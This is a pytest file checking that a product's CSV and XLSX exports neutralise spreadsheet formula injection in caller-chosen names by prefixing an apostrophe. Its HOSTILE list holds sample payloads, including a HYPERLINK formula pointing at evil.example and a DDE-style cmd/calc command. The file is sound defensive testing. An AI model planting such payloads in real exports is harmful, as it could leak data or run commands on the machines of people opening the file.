"""Formula injection (OWASP CSV injection): a name a caller chose reaches every CSV the product writes
as text, never as a formula, through the one writer: the dashboard's table downloads, the public
notice (reachable signed out), the gateway's enforcement list and the CLI's alert export. Numbers stay
numbers, and XLSX cells are text, never formulas."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta

import openpyxl
import polars as pl
import pytest
from violation_records import add_violation_records

from dashboard import components
from detectors import store
from detectors.base import Alert
from detectors.export import export_alerts
from odwatch.cells import neutralise_formula
from odwatch.clock import SHANGHAI
from reports.export.enforcement import write_enforcement_list
from reports.export.notice import write_public_notice

HOSTILE = ['=HYPERLINK("http://evil.example/?leak","click me")', '@SUM(1+1)*cmd|" /C calc"!A0',
           "+1+2", "-2+3", "\tx", "\rx"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_would_be_a_formula_gets_an_apostrophe(text):
    assert neutralise_formula(text) == "'" + text
    assert neutralise_formula("市交通委") == "市交通委" and neutralise_formula(-5) == -5


def cells(data: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.removeprefix("\ufeff"))))


def test_the_dashboards_downloads_neutralise_text_and_keep_numbers():
    frame = pl.DataFrame({"name": HOSTILE, "calls": [-5, 1, 2, 3, 4, 5]})
    rows = cells(components.csv_bytes(frame).decode("utf-8"))
    assert [r[0] for r in rows[1:]] == ["'" + text for text in HOSTILE]
    assert rows[1][1] == "-5"                                       # a number stays a number
    sheet = openpyxl.load_workbook(io.BytesIO(components.xlsx_bytes(frame))).active
    assert [(c.value, c.data_type) for c in sheet["A"][1:3]] == [(HOSTILE[0], "s"), (HOSTILE[1], "s")]


def hostile_company(client) -> None:
    add_violation_records(client)
    client.command("INSERT INTO consumers (consumer_id, name, kind, credit_code, registered_at) VALUES "
                   "('c1', {name:String}, 'company', '91310000MA1FL0BQ3X', '2024-01-01 00:00:00')",
                   parameters={"name": HOSTILE[0]})


def test_the_public_notice_and_the_enforcement_list_neutralise_a_hostile_name(client, tmp_path):
    hostile_company(client)
    notice = cells(write_public_notice(client, "csv", tmp_path / "n.csv").read_text(encoding="utf-8"))
    assert ["'" + HOSTILE[0]] == [r[0] for r in notice[1:] if "HYPERLINK" in r[0]]
    listed = cells(write_enforcement_list(client, "csv", tmp_path / "e.csv").read_text(encoding="utf-8"))
    names = {r[listed[0].index("consumer_name")] for r in listed[1:]}
    assert "'" + HOSTILE[0] in names and HOSTILE[0] not in names


def test_the_alert_export_neutralises_caller_chosen_text(client):
    start = datetime(2026, 11, 24, tzinfo=SHANGHAI)
    store.save_alerts(client, [Alert(detector_id="probing", category="probing", article="第三十条",
                                     severity="high", score=3.0, message="alerts.probing", window_start=start,
                                     window_end=start + timedelta(days=1), consumer_id=HOSTILE[1])])
    count, text = export_alerts(client, "csv")
    rows = cells(text)
    column = rows[0].index("consumer_id")
    assert count == 1 and rows[1][column] == "'" + HOSTILE[1]
